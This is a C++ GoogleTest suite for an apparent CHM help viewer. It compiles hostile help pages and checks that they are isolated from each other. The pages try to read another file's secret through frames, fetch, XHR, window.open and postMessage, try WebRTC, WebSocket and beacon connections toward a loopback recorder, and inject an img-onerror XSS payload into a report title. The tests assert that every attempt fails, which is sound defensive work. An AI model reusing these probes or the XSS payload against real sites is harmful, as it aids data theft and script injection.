// Hostile help files, compiled here by our own compiler, against the closed
// profile: a page of one file cannot read a page of another by any route
// (frames, fetch, XMLHttpRequest, postMessage replies, window.open), each
// file is an origin of its own while links between files still lead
// somewhere, nothing reaches the network (WebRTC included: a loopback
// recorder for UDP and TCP sees nothing), web links open in the desktop's
// browser only on the user's click, and report pages run no script but the
// builder's.
#include <gtest/gtest.h>

#include <QApplication>
#include <QHostAddress>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>
#include <QWidget>
#include <filesystem>
#include <fstream>

#include "its/its_storage.h"
#include "platform/browser/closed_profile.h"
#include "platform/browser/help_file_source.h"
#include "platform/browser/help_origins.h"
#include "platform/browser/hh_ctrl.h"
#include "report/report_pages.h"
#include "tests/compile/compiled_project.h"
#include "tests/platform/browser/browser_page_wait.h"

using pagewait::eval;
using pagewait::loads;
using pagewait::until;

namespace {

// Everything that reaches 127.0.0.1 on one UDP and one TCP port.
class LoopbackRecorder : public QObject {
 public:
  QUdpSocket udp;
  QTcpServer tcp;
  QByteArray received;
  int datagrams = 0;
  int connections = 0;

  LoopbackRecorder() {
    udp.bind(QHostAddress::LocalHost, 0);
    tcp.listen(QHostAddress::LocalHost);
    connect(&udp, &QUdpSocket::readyRead, this, [this] {
      while (udp.hasPendingDatagrams()) {
        QByteArray d(static_cast<int>(udp.pendingDatagramSize()), '\0');
        udp.readDatagram(d.data(), d.size());
        received += d;
        ++datagrams;
      }
    });
    connect(&tcp, &QTcpServer::newConnection, this, [this] {
      while (QTcpSocket* s = tcp.nextPendingConnection()) {
        ++connections;
        connect(s, &QTcpSocket::readyRead, this, [this, s] { received += s->readAll(); });
      }
    });
  }
  quint16 udpPort() const { return udp.localPort(); }
  quint16 tcpPort() const { return tcp.serverPort(); }
};

std::string compile(const crafted::TempDir& dir, const std::string& name, compiled::Files files) {
  files["project.hhp"] = compiled::project(files, "Compiled file=" + name + "\r\nTitle=t\r\n");
  const std::string chm = dir / name;
  EXPECT_TRUE(compiled::build(dir / (name + ".project"), files, chm));
  return chm;
}

// The page's collected results (data-* attributes of its element "out"),
// once it says it is done or the time is up.
QString results(QWebEngineView* view, int expected, int timeoutMs = 8000) {
  until(view,
        QStringLiteral("+document.getElementById('out') && "
                       "document.getElementById('out').getAttribute('data-done') >= %1")
            .arg(expected),
        timeoutMs);
  return eval(view,
              "var o = document.getElementById('out'); o ? "
              "JSON.stringify(Object.assign({}, o.dataset)) : ''")
      .toString();
}

using Tokens = std::vector<std::pair<std::string, std::string>>;

// The text with every token replaced.
std::string fill(std::string text, const Tokens& tokens) {
  for (const auto& [token, value] : tokens)
    for (std::size_t at = text.find(token); at != std::string::npos;
         at = text.find(token, at + value.size()))
      text.replace(at, token.size(), value);
  return text;
}

// Collects results as attributes, so the isolated world can read them.
const char* const kNote =
    "var out = document.getElementById('out'); var done = 0;"
    "function note(k, v) { out.setAttribute('data-' + k, String(v).slice(0, 200));"
    " out.setAttribute('data-done', ++done); }";

class Isolation : public ::testing::Test {
 protected:
  void SetUp() override {
    window_.resize(640, 480);
    window_.show();
    ASSERT_TRUE(host_.Create(&window_, QRect(0, 0, 640, 480), 0, HHHome::none(), false));
  }
  void TearDown() override {
    browser::setDesktopBrowserOpener({});
    browser::HelpFileSource::instance().closeAll();
  }
  QWebEngineView* view() { return host_.browser(); }

  crafted::TempDir dir_;
  QWidget window_;
  CHHCtrl host_;
};

TEST_F(Isolation, APageOfOneHelpFileReadsNothingOfAnother) {
  const std::string secret = "SECRET-OF-B-5713";
  // B's page answers anyone who asks, and tells its parent on its own.
  const std::string b = compile(
      dir_, "b.chm",
      {{"secret.htm",
        "<html><body><p>" + secret +
            "</p><script>"
            "addEventListener('message', e => { try { e.source.postMessage('reply ' + "
            "document.body.innerText, '*'); } catch (x) {} });"
            "try { parent.postMessage('hello ' + document.body.innerText, '*'); } catch (x) {}"
            "try { opener && opener.postMessage('opener ' + document.body.innerText, '*'); }"
            " catch (x) {}"
            "</script></body></html>"},
       {"secret.txt", secret}});
  std::vector<std::string> spellings = {"its:" + b + "::/secret.htm",
                                        "ms-its:" + b + "::/secret.htm",
                                        "mk:@MSITStore:" + b + "::/secret.htm",
                                        "ms-its:b.chm::/secret.htm", "its:" + b + "::/secret.txt"};
  std::string list;
  for (const std::string& s : spellings) list += "'" + s + "',";
  const std::string attack =
      "<html><body><div id=out></div><a id=go href='ms-its:b.chm::/secret.htm'>b</a>"
      "<iframe id=own src='own.htm'></iframe><script>" +
      std::string(kNote) + "var targets = [" + list +
      "]; var heard = '';"
      "addEventListener('message', e => { heard += ' ' + e.data; note('heard', heard); });"
      "var frames = targets.map(t => { var f = document.createElement('iframe'); f.src = t;"
      " document.body.appendChild(f); return f; });"
      "targets.forEach((t, i) => {"
      "  fetch(t).then(r => r.text()).then(x => note('fetch' + i, x), e => note('fetch' + i, "
      "'blocked'));"
      "  var x = new XMLHttpRequest();"
      "  try { x.open('GET', t); x.onload = () => note('xhr' + i, x.responseText);"
      "    x.onerror = () => note('xhr' + i, 'blocked'); x.send(); } catch (e) { note('xhr' + i, "
      "'blocked'); }"
      "  try { var w = window.open(t); note('open' + i, w ? 'window' : 'none'); } catch (e) {"
      " note('open' + i, 'none'); }"
      "});"
      "var own = new XMLHttpRequest(); own.open('GET', 'own.htm');"
      "own.onload = () => note('ownxhr', own.responseText);"
      "own.onerror = () => note('ownxhr', 'blocked'); own.send();"
      "setTimeout(() => {"
      "  frames.forEach((f, i) => {"
      "    try { note('dom' + i, f.contentDocument ? f.contentDocument.body.innerText : 'none'); }"
      "    catch (e) { note('dom' + i, 'denied'); }"
      "    try { f.contentWindow.postMessage('give', '*'); } catch (e) {}"
      "  });"
      "  try { note('owndom', document.getElementById('own').contentDocument.body.innerText); }"
      "  catch (e) { note('owndom', 'denied'); }"
      "  note('origin', location.origin);"
      "}, 2500);"
      "</script></body></html>";
  const std::string a =
      compile(dir_, "a.chm",
              {{"attack.htm", attack}, {"own.htm", "<html><body>OWN-PAGE-OF-A</body></html>"}});
  ASSERT_TRUE(host_.SetHelpFile(a));
  ASSERT_TRUE(loads(host_, [&] { host_.NavigateInternal("/attack.htm"); }));
  // 5 targets × (fetch, xhr, open, dom) + own fetch, own dom, origin.
  const QString seen = results(view(), 23, 12000);
  QTest::qWait(1000);
  const QString all = seen + results(view(), 0, 0);
  EXPECT_FALSE(all.contains(QString::fromStdString(secret))) << all.toStdString();
  EXPECT_FALSE(all.contains(QStringLiteral("window"))) << all.toStdString();
  // The page's own file is readable: the probes above really ran.
  EXPECT_TRUE(all.contains(QStringLiteral("\"ownxhr\":\"<html><body>OWN-PAGE-OF-A")))
      << all.toStdString();
  EXPECT_TRUE(all.contains(QStringLiteral("\"owndom\":\"OWN-PAGE-OF-A"))) << all.toStdString();
  // An origin of its own, which names no path.
  const QString originA = eval(view(), "location.origin").toString();
  EXPECT_TRUE(originA.startsWith(QStringLiteral("helpfile://"))) << originA.toStdString();
  EXPECT_FALSE(originA.contains(QStringLiteral("a.chm")));
  EXPECT_EQ(host_.CurrentLocation(), "its:" + browser::canonicalHelpFile(a) + "::/attack.htm");

  // A link to the other help file still leads there, into that file's own
  // origin.
  ASSERT_TRUE(loads(host_, [&] { eval(view(), "document.getElementById('go').click()"); }));
  EXPECT_EQ(host_.CurrentLocation(), "its:" + browser::canonicalHelpFile(b) + "::/secret.htm");
  const QString originB = eval(view(), "location.origin").toString();
  EXPECT_TRUE(originB.startsWith(QStringLiteral("helpfile://")));
  EXPECT_NE(originA, originB);
  // The same file under another spelling of its path keeps its origin.
  ASSERT_TRUE(loads(host_, [&] { host_.Navigate("its:" + dir_.path() + "/./a.chm::/own.htm"); }));
  EXPECT_EQ(eval(view(), "location.origin").toString(), originA);

  // A page of the report folder (here one without a policy of its own)
  // gets nothing of a help file either.
  std::filesystem::create_directory(dir_ / "reports");
  browser::setReportFolder(QString::fromStdString(dir_ / "reports"));
  std::ofstream(dir_ / "reports/probe.htm")
      << "<html><body><div id=out></div><script>" << kNote << "var targets = [" << list
      << "]; targets.forEach((t, i) => {"
         " var f = document.createElement('iframe'); f.src = t; document.body.appendChild(f);"
         " setTimeout(() => { try { note('dom' + i, f.contentDocument.body.innerText); }"
         " catch (e) { note('dom' + i, 'denied'); } }, 1500);"
         " fetch(t).then(r => r.text()).then(x => note('fetch' + i, x),"
         " e => note('fetch' + i, 'blocked')); });</script></body></html>";
  ASSERT_TRUE(loads(host_, [&] { host_.Navigate(dir_ / "reports/probe.htm"); }));
  const QString fromReport = results(view(), 10);
  EXPECT_TRUE(fromReport.contains(QStringLiteral("fetch0"))) << fromReport.toStdString();
  EXPECT_FALSE(fromReport.contains(QString::fromStdString(secret))) << fromReport.toStdString();
  browser::setReportFolder(QString());
}

TEST_F(Isolation, NoPageReachesTheNetworkWebRtcIncluded) {
  LoopbackRecorder recorder;
  ASSERT_NE(recorder.udpPort(), 0);
  ASSERT_TRUE(recorder.tcp.isListening());
  const Tokens ports = {{"{UDP}", std::to_string(recorder.udpPort())},
                        {"{TCP}", std::to_string(recorder.tcpPort())}};
  // A peer connection towards the recorder: a remote answer whose ICE user
  // name carries the secret, one UDP and one TCP candidate on loopback, and
  // STUN and TURN servers there too. Run with the constructor the page
  // finds, one from a fresh frame, and (below) the isolated world's own.
  const std::string attack = fill(
      "async function peer(PC, tag) {"
      "  if (typeof PC !== 'function') { note(tag, 'none'); return; }"
      "  var pc = new PC({iceServers: [{urls: 'stun:127.0.0.1:{UDP}'},"
      "    {urls: 'turn:127.0.0.1:{TCP}?transport=tcp', username: 'u', credential: 'c'}]});"
      "  var candidates = [];"
      "  pc.onicecandidate = e => { if (e.candidate && e.candidate.candidate)"
      "    candidates.push(e.candidate.candidate); note(tag + 'c', candidates.join('|')); };"
      "  pc.createDataChannel('x');"
      "  var offer = await pc.createOffer(); await pc.setLocalDescription(offer);"
      "  var sdp = offer.sdp.replace(/a=ice-ufrag:.*\\r\\n/, 'a=ice-ufrag:SECRETUFRAG5151\\r\\n')"
      "    .replace(/a=ice-pwd:.*\\r\\n/, 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa\\r\\n')"
      "    .replace('a=setup:actpass', 'a=setup:active')"
      "    + 'a=candidate:1 1 udp 2122260223 127.0.0.1 {UDP} typ host\\r\\n'"
      "    + 'a=candidate:2 1 tcp 1518280447 127.0.0.1 {TCP} typ host tcptype passive\\r\\n';"
      "  await pc.setRemoteDescription({type: 'answer', sdp: sdp});"
      "  note(tag, 'made');"
      "}",
      ports);
  const std::string page = fill(
      "<html><head><link rel=preconnect href='http://127.0.0.1:{TCP}/'>"
      "<link rel=dns-prefetch href='http://127.0.0.1:{TCP}/'>"
      "<link rel=prefetch href='http://127.0.0.1:{TCP}/prefetch'></head><body><div id=out></div>"
      "<img src='http://127.0.0.1:{TCP}/img'><script>" +
          std::string(kNote) + attack +
          "peer(window.RTCPeerConnection, 'page').catch(e => note('page', 'failed'));"
          "peer(window.webkitRTCPeerConnection, 'webkit').catch(e => note('webkit', 'failed'));"
          "var f = document.createElement('iframe'); document.body.appendChild(f);"
          "peer(f.contentWindow.RTCPeerConnection, 'frame').catch(e => note('frame', 'failed'));"
          // A window reached by index: only the engine switches stand in
          // its way.
          "var g = document.createElement('iframe'); document.body.appendChild(g);"
          "peer(frames[frames.length - 1].RTCPeerConnection, 'indexed')"
          ".catch(e => note('indexed', 'failed'));"
          "try { new WebSocket('ws://127.0.0.1:{TCP}/'); note('ws', 'made'); } catch (e) {"
          " note('ws', 'none'); }"
          "try { new EventSource('http://127.0.0.1:{TCP}/es'); } catch (e) {}"
          "try { navigator.sendBeacon('http://127.0.0.1:{TCP}/beacon', 'x'); } catch (e) {}"
          "fetch('http://127.0.0.1:{TCP}/fetch').catch(e => 0);"
          "try { navigator.serviceWorker.register('sw.js').then(() => note('sw', 'registered'),"
          " () => note('sw', 'refused')); } catch (e) { note('sw', 'none'); }"
          "</script></body></html>",
      ports);
  const std::string chm = compile(dir_, "net.chm", {{"net.htm", page}, {"sw.js", "self.x = 1;"}});
  ASSERT_TRUE(host_.SetHelpFile(chm));
  ASSERT_TRUE(loads(host_, [&] { host_.NavigateInternal("/net.htm"); }));
  results(view(), 5);
  // The isolated world keeps the engine's own constructor: only the engine
  // switch stands between it and a socket.
  eval(view(), QString::fromStdString(std::string(kNote) + attack +
                                      "peer(RTCPeerConnection, 'isolated')"
                                      ".catch(e => note('isolated', 'failed: ' + e));"));
  QTest::qWait(4000);
  const QString all = results(view(), 0, 0);
  for (const char* tag : {"page", "webkit", "frame", "ws"})
    EXPECT_TRUE(all.contains(QStringLiteral("\"%1\":\"none\"").arg(tag)))
        << tag << " " << all.toStdString();
  EXPECT_TRUE(all.contains(QStringLiteral("\"isolated\":\"made\""))) << all.toStdString();
  // No candidate at all: no host address, no mDNS name, no server-reflexive
  // or relay address.
  EXPECT_FALSE(all.contains(QStringLiteral("candidate"))) << all.toStdString();
  EXPECT_FALSE(all.contains(QStringLiteral("registered"))) << all.toStdString();
  EXPECT_EQ(recorder.datagrams, 0);
  EXPECT_EQ(recorder.connections, 0);
  EXPECT_FALSE(recorder.received.contains("SECRETUFRAG")) << recorder.received.toStdString();
}

TEST_F(Isolation, WebLinksOpenOutsideOnlyOnTheUsersClick) {
  std::vector<QUrl> opened;
  browser::setDesktopBrowserOpener([&](const QUrl& url) { opened.push_back(url); });
  LoopbackRecorder recorder;
  const std::string page = fill(
      "<html><body style='margin:0'><a id=web href='http://127.0.0.1:{TCP}/clicked' "
      "style='display:block;width:400px;height:200px'>web</a><div id=out></div><script>" +
          std::string(kNote) +
          "setTimeout(() => { location.href = 'http://127.0.0.1:{TCP}/script'; note('a', 1); },"
          " 100);"
          "setTimeout(() => { window.open('https://127.0.0.1:{TCP}/open'); note('b', 1); }, 200);"
          "setTimeout(() => { document.getElementById('web').click(); note('c', 1); }, 300);"
          "</script></body></html>",
      {{"{TCP}", std::to_string(recorder.tcpPort())}});
  const std::string chm = compile(dir_, "web.chm", {{"web.htm", page}});
  ASSERT_TRUE(host_.SetHelpFile(chm));
  ASSERT_TRUE(loads(host_, [&] { host_.NavigateInternal("/web.htm"); }));
  results(view(), 3);
  QTest::qWait(500);
  EXPECT_TRUE(opened.empty()) << opened.front().toString().toStdString();
  // The user clicks the link: it opens outside, once, and the view stays.
  QWidget* input = view()->focusProxy();
  ASSERT_NE(input, nullptr);
  QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(50, 50));
  for (int i = 0; i < 50 && opened.empty(); ++i) QTest::qWait(100);
  ASSERT_EQ(opened.size(), 1u);
  EXPECT_EQ(opened[0].toString(),
            QStringLiteral("http://127.0.0.1:%1/clicked").arg(recorder.tcpPort()));
  EXPECT_EQ(host_.CurrentLocation(), "its:" + browser::canonicalHelpFile(chm) + "::/web.htm");
  EXPECT_EQ(recorder.connections, 0);
}

TEST_F(Isolation, ReportPagesRunOnlyTheBuildersScript) {
  compiled::Files files;
  files["page.htm"] = "<html><body><script>document.title = 'ran';</script></body></html>";
  files["project.hhp"] = compiled::project(
      files, "Compiled file=r.chm\r\nTitle=<img src=x onerror=\"document.title='ran'\">\r\n");
  const std::string chm = dir_ / "r.chm";
  ASSERT_TRUE(compiled::build(dir_ / "r.project", files, chm));
  ItsStorage storage;
  ASSERT_EQ(storage.open(chm.c_str()), itss::S_OK);
  std::filesystem::create_directory(dir_ / "pages");
  browser::setReportFolder(QString::fromStdString(dir_ / "pages"));
  ReportPages pages(storage.root(), chm, dir_ / "pages");
  const PageResult general = pages.generalInfo();
  ASSERT_EQ(general.outcome, PageOutcome::kShow);
  ASSERT_TRUE(loads(host_, [&] { host_.Navigate(general.path); }));
  // The title is text on the page, and nothing of it ran.
  EXPECT_TRUE(eval(view(), "document.body.textContent")
                  .toString()
                  .contains(QStringLiteral("onerror=\"document.title='ran'\"")));
  QTest::qWait(300);
  EXPECT_NE(view()->title(), QStringLiteral("ran"));
  // The builder's own script runs: a click opens the window-defaults section.
  EXPECT_TRUE(eval(view(),
                   "document.getElementById('Out1').click();"
                   "document.getElementById('Out1details').style.display == ''")
                  .toBool());
  // A script put into the page by other means is refused by the policy.
  eval(view(),
       "var s = document.createElement('script'); s.textContent = \"document.title = 'ran'\";"
       "document.body.appendChild(s);");
  QTest::qWait(300);
  EXPECT_NE(view()->title(), QStringLiteral("ran"));
  // Report pages are not help pages: they read nothing from a help file.
  EXPECT_FALSE(eval(view(), "location.origin").toString().startsWith(QStringLiteral("helpfile")));
  // The text view shows a page's source as text and runs none of it.
  const PageResult source = pages.textView("/page.htm");
  ASSERT_EQ(source.outcome, PageOutcome::kShowNoHome);
  ASSERT_TRUE(loads(host_, [&] { host_.Navigate(source.path); }));
  EXPECT_TRUE(eval(view(), "document.body.textContent")
                  .toString()
                  .contains(QStringLiteral("<script>document.title = 'ran';</script>")));
  QTest::qWait(300);
  EXPECT_NE(view()->title(), QStringLiteral("ran"));
  pages.deleteTempPages();
  browser::setReportFolder(QString());
}

}  // namespace
